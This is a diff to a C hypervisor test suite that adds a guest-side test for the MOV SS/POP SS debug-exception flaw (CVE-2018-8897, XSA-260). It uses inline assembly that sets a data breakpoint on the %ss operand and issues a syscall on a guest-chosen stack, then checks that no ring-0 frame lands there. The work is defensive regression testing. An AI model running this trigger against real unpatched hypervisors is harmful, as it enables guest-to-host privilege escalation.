@@ -13,6 +13,13 @@
  *   reservation  decrease_reservation of still-mapped frames + populate
  *   user         privileged instructions and int3 (DPL 0) from user mode
  *                (Xen 4.17 gives #GP for the former, #BP for int3)
+ *   movss_db     (attack2 review) a data breakpoint (set_debugreg) on the
+ *                operand of `mov ..., %ss` followed by `syscall`: the #DB
+ *                the MOV SS holds back is delivered in ring 0 at the
+ *                syscall entry, on the guest's %rsp (CVE-2018-8897,
+ *                XSA-260). QEMU's TCG does not hold the #DB back, so under
+ *                TCG the guest just takes its #DB; on hardware or KVM the
+ *                hv writes its exception frame to the guest's %rsp.
  *   stale_l1, stale_gdt, stale_free, gnt_unmap, runstate_pad
  *                the TLB and grant findings of the second review
  *                (attack_tlb.c)
@@ -319,6 +326,61 @@ static void attack_iret(void)
     check_eq("one trap after the iret", edge_traps, 1);
     check_eq("the trap is #GP (as Xen)", (long)edge_vec, 13);
     check_true("the #GP rip is 0x8000000000000000 (as Xen)", edge_rip == 0x8000000000000000ULL);
+}
+
+/* ---- attack2: MOV SS + syscall with a data breakpoint (XSA-260) ---- */
+void movss_syscall(uint64_t stack_top);
+extern char movss_after[];
+volatile uint16_t movss_sel = 0xe02b; /* FLAT_RING3_SS64: what %ss holds */
+static volatile uint64_t movss_saved_rsp;
+/* Switch to stack_top, load %ss from movss_sel (the watched word), then
+ * `syscall` xen_version(0) at once; back on the caller's stack after. */
+__asm__(".text\n"
+        ".globl movss_syscall, movss_after\n"
+        "movss_syscall:\n"
+        "    push %rbx\n"
+        "    mov %rsp, movss_saved_rsp(%rip)\n"
+        "    mov %rdi, %rsp\n"
+        "    mov $17, %eax\n"          /* __HYPERVISOR_xen_version */
+        "    xor %edi, %edi\n"         /* XENVER_version */
+        "    xor %esi, %esi\n"
+        "    mov movss_sel(%rip), %ss\n"
+        "    syscall\n"
+        "movss_after:\n"
+        "    mov movss_saved_rsp(%rip), %rsp\n"
+        "    pop %rbx\n"
+        "    ret\n");
+
+static long set_dr(int reg, uint64_t val)
+{
+    return xen_hypercall5(__HYPERVISOR_set_debugreg, (uint64_t)(long)reg, val, 0, 0, 0);
+}
+
+static void attack_movss_db(void)
+{
+    uint64_t *stk = pool_page();
+    for (int i = 0; i < 512; i++)
+        stk[i] = 0x5a5a5a5a5a5a5a5aULL;
+    printk("attack movss_db: DR0=&movss_sel (RW, 1 byte), mov %%ss then syscall on a scratch stack\n");
+    check_eq("set_debugreg(0, &movss_sel)", set_dr(0, (uint64_t)&movss_sel), 0);
+    check_eq("set_debugreg(7, L0 RW=11 LEN=1)", set_dr(7, 0x30001ULL), 0);
+    edge_traps = 0;
+    edge_resume = (uint64_t)movss_after;
+    movss_syscall((uint64_t)&stk[512]);
+    edge_resume = 0;
+    set_dr(7, 0);
+    printk("attack movss_db: %d guest traps (vector %lu at %lx)\n", edge_traps,
+           (unsigned long)edge_vec, (unsigned long)edge_rip);
+    /* What the hv must never do: push its own frame (cs 0xe008, a ring-0
+     * rip) onto a stack pointer the guest chose. Under TCG the #DB comes
+     * to the guest right after the mov (rip at the syscall). */
+    int hv_frame = 0;
+    for (int i = 0; i < 512; i++)
+        if (stk[i] == 0xe008)
+            hv_frame = 1;
+    check_true("no ring-0 exception frame (cs 0xe008) on the guest-chosen stack", !hv_frame);
+    check_true("the #DB reached the guest (not taken in ring 0 at the syscall entry)",
+               edge_traps == 1 && edge_vec == 1);
 }
 
 extern char edge_code[], edge_code_end[], edge_back[];
@@ -746,6 +808,8 @@ int guest_main(start_info_t *si)
         attack_reservation();
     else if (!strcmp(name, "user"))
         attack_user(si);
+    else if (!strcmp(name, "movss_db"))
+        attack_movss_db();
     else if (attack_tlb(si, name, &check_passed, &check_failed))
         ;
     else {
